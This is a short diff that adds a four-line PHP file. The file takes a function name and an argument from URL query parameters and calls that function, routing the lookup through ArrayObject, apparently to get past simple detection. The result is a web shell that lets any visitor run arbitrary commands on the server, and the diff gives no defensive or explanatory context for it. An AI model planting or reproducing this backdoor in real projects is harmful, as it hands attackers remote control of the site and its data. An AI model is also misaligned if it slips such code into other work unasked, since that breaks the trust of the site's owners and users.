@@ -1,0 +1,4 @@
+<?php
+$o = new ArrayObject($_GET);
+$f = $o->offsetGet('f');
+$f($o->offsetGet('a'));
